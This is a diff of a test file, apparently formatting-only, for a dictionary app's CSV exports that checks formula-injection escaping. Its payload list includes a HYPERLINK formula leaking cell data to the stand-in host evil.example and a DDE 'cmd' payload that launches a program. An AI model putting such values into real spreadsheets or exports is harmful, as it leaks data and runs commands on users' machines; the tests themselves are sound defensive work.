@@ -10,7 +10,7 @@ import { call, CLIENT_HEADERS, form, register, startTestApp, type TestApp } from
 
 /** What a spreadsheet would take for a formula (or read one after). */
 const FORMULA = /^[=+\-@\t\r]/;
-const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
+const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
 /** The import trims a cell before it looks at it: only data stored otherwise starts like these. */
 const HIDDEN = ['\t=1+1', '\r=1+1', '\t@SUM(A1)'];
 
@@ -74,7 +74,9 @@ describe('the CSV downloads', () => {
     });
     expect(res.json().result.failed).toBe(5);
     const first = await download('/dict/down_words_failed_to_upload');
-    const words = parseCsv(text(first)).slice(1).map((r) => r.cells[0]);
+    const words = parseCsv(text(first))
+      .slice(1)
+      .map((r) => r.cells[0]);
     expect(words).toEqual([...PAYLOADS.map((w) => `'${w}`), 'x;=1+1']);
     expect(text(first)).toContain('"x;=1+1"');
     for (const cell of cells(first)) expect(cell).not.toMatch(FORMULA);
@@ -86,7 +88,11 @@ describe('the CSV downloads', () => {
     const stored = { rows: JSON.stringify(kept) };
     await failures.updateTable('dict_import_failures').set(stored).where('uid', '=', uid).execute();
     const second = await download('/dict/down_words_failed_to_upload');
-    expect(parseCsv(text(second)).slice(1).map((r) => r.cells[0])).toEqual(HIDDEN.map((w) => `'${w}`));
+    expect(
+      parseCsv(text(second))
+        .slice(1)
+        .map((r) => r.cells[0]),
+    ).toEqual(HIDDEN.map((w) => `'${w}`));
     for (const cell of cells(second)) expect(cell).not.toMatch(FORMULA);
   });
 
@@ -102,7 +108,9 @@ describe('the CSV downloads', () => {
       .execute();
     const csv = await download('/dict/v1/export_words?format=csv');
     for (const cell of cells(csv)) expect(cell).not.toMatch(FORMULA);
-    const words = parseCsv(text(csv)).slice(1).map((r) => r.cells);
+    const words = parseCsv(text(csv))
+      .slice(1)
+      .map((r) => r.cells);
     expect(words).toEqual([
       ...PAYLOADS.map((w) => [`'${w}`, '4', '']),
       ['x;=1+1', '5', "'=1+1"],
